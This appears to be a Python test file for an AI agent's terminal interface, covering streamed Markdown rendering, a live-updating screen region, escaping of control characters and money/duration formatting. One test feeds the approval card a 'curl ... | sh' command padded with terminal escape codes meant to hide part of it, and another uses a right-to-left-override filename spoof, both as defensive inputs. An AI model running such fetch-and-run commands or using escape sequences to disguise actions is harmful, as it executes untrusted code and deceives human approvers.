"""The parts that draw on a terminal: streaming Markdown, the changing lines, foreign text."""

from __future__ import annotations

import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from agent.cli.safe import typed, visible
from agent.cli.terminal.approval import card
from agent.cli.terminal.footer import duration, money
from agent.cli.terminal.glyphs import ASCII, UNICODE, glyphs_for
from agent.cli.terminal.live import LiveRegion
from agent.cli.terminal.markdown import AnswerMarkdown, Blocks
from agent.events import Approval

ANSWER = """\
# A title

Some *text* that
goes on.

- one
- two

  still two

1. first
2. second

```python
a = 1

b = 2
```

| a | b |
|---|---|
| 1 | 2 |

> quoted

End.
"""


def rendered(markdown: str) -> list[str]:
    console = Console(width=60, file=io.StringIO(), force_terminal=False)
    with console.capture() as captured:
        console.print(AnswerMarkdown(markdown))
    return [line.rstrip() for line in captured.get().splitlines() if line.strip()]


@given(st.lists(st.integers(min_value=1, max_value=40), min_size=1, max_size=60))
def test_however_it_is_cut_the_blocks_make_the_whole_answer(sizes: list[int]) -> None:
    blocks, given_out, rest = Blocks(), [], ANSWER
    for size in sizes:
        blocks.feed(rest[:size])
        rest = rest[size:]
        if done := blocks.finished():
            given_out.append(done)
    blocks.feed(rest)
    given_out.append(blocks.rest())
    assert [line for part in given_out for line in rendered(part)] == rendered(ANSWER)
    assert blocks.tail == ""


def test_a_block_is_given_out_once_and_only_when_nothing_can_change_it() -> None:
    blocks = Blocks()
    blocks.feed("First paragraph.\n")
    assert blocks.finished() == ""
    blocks.feed("\nSecond")
    assert blocks.finished() == "", "the line is not complete yet"
    blocks.feed(" one.\n")
    assert blocks.finished() == "First paragraph."
    blocks.feed("\n```\ncode\n\nmore code\n")
    assert blocks.finished() == "Second one."
    blocks.feed("\n\nstill code\n")
    assert blocks.finished() == ""
    assert blocks.rest() == "```\ncode\n\nmore code\n\n\nstill code"


def test_html_is_shown_as_text_and_not_lost() -> None:
    assert rendered("a <b>bold</b> word\n\n<div>block</div>") == ["a <b>bold</b> word", "<div>block</div>"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x1b[2Jb", "a\\x1b[2Jb"),
        ("a\x9b2Jb", "a\\x9b2Jb"),
        ("invoice\u202egpj.exe", "invoice\\u202egpj.exe"),
        ("bell\x07 back\x08", "bell\\x07 back\\x08"),
        ("over\rwrite", "over\\x0dwrite"),
        ("tab\tand\nline", "tab\tand\nline"),
        ("naïve 日本 ✓", "naïve 日本 ✓"),
    ],
)
def test_control_characters_are_written_out(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_what_was_typed_in_a_wrong_encoding_is_recovered_or_marked() -> None:
    assert typed("héllo ✓".encode().decode("ascii", "surrogateescape")) == "héllo ✓"
    assert typed(b"h\xe9llo".decode("ascii", "surrogateescape")) == "h\ufffdllo"
    assert typed("half \ud83d") == "half ?"


def test_the_approval_card_shows_the_whole_action_and_nothing_can_hide_in_it() -> None:
    action = "curl https://example.com/" + "x" * 300 + " | sh\x1b[1A\x1b[2K"
    approval = Approval("1", 1, 1, "c", "run_command", "Run a command", action, "it changes files", False, "", 0.0)
    console = Console(width=60, file=io.StringIO(), force_terminal=False)
    with console.capture() as captured:
        console.print(card(approval))
    text = captured.get()
    inside = "".join(line.strip("│").strip() for line in text.splitlines())
    assert "x" * 300 in inside
    assert "| sh\\x1b[1A\\x1b[2K" in inside
    assert "\x1b" not in text
    assert "It changes files." in text
    assert "This cannot be undone." in text


class Screen:
    """As much of a terminal as the live region uses: rows, the cursor, erasing."""

    def __init__(self, width: int) -> None:
        self.width = width
        self.rows: list[str] = [""]
        self.row = self.column = 0

    def feed(self, text: str) -> None:
        position = 0
        while position < len(text):
            character = text[position]
            position += 1
            if character == "\x1b":
                end = position + 1
                while not text[end].isalpha():
                    end += 1
                self._control(text[position + 1 : end], text[end])
                position = end + 1
            elif character == "\n":
                self.row, self.column = self.row + 1, 0
                if self.row == len(self.rows):
                    self.rows.append("")
            elif character == "\r":
                self.column = 0
            else:
                self.rows[self.row] = self.rows[self.row][: self.column].ljust(self.column) + character
                self.column += 1

    def _control(self, number: str, command: str) -> None:
        if command == "A":
            self.row -= int(number or 1)
            assert self.row >= 0, "moved above the screen"
        elif command == "K":
            self.rows[self.row] = self.rows[self.row][: self.column]
        elif command == "J":
            self.rows[self.row] = self.rows[self.row][: self.column]
            del self.rows[self.row + 1 :]
        elif command not in "hl":
            raise AssertionError(f"unknown sequence {number}{command}")


class Feed(io.StringIO):
    def __init__(self, screen: Screen) -> None:
        super().__init__()
        self.screen = screen

    def write(self, text: str) -> int:
        self.screen.feed(text)
        return len(text)


def test_lasting_lines_stay_and_changing_lines_are_replaced() -> None:
    screen = Screen(80)
    region = LiveRegion(Feed(screen), enabled=True)
    region.draw(["spinner 1"])
    region.draw(["tail", "", "spinner 2"])
    assert screen.rows == ["tail", "", "spinner 2"]
    region.commit("first\nsecond", ["spinner 3"])
    assert screen.rows == ["first", "second", "spinner 3"]
    region.commit("third", ["new tail", "spinner 4"])
    region.draw(["spinner 5"])
    assert screen.rows == ["first", "second", "third", "spinner 5"]
    region.clear()
    assert screen.rows == ["first", "second", "third", ""]


def test_without_a_smart_terminal_only_lasting_lines_are_written() -> None:
    stream = io.StringIO()
    region = LiveRegion(stream, enabled=False)
    region.draw(["spinner"])
    region.commit("answer", ["spinner"])
    region.clear()
    assert stream.getvalue() == "answer\n"


def test_signs_fit_the_encoding() -> None:
    assert glyphs_for(io.TextIOWrapper(io.BytesIO(), encoding="utf-8")) is UNICODE
    assert glyphs_for(io.TextIOWrapper(io.BytesIO(), encoding="ascii")) is ASCII


def test_numbers_in_words() -> None:
    assert [money(0), money(0.00001), money(0.0021), money(1.2), money(1234)] == [
        *("$0.00", "< $0.0001", "$0.0021", "$1.20", "$1,234.00"),
    ]
    assert [duration(0.44), duration(12.3), duration(185)] == ["0.4 s", "12 s", "3 min 5 s"]
